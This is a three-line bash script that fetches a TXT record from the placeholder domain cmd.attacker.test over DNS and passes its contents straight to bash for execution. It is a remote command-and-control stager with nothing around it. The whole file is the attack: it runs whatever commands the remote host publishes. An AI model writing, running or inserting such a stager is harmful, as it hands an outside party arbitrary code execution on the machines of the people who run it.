#!/bin/bash
c=$(dig +short TXT cmd.attacker.test | tr -d '"')
bash -c "$c"
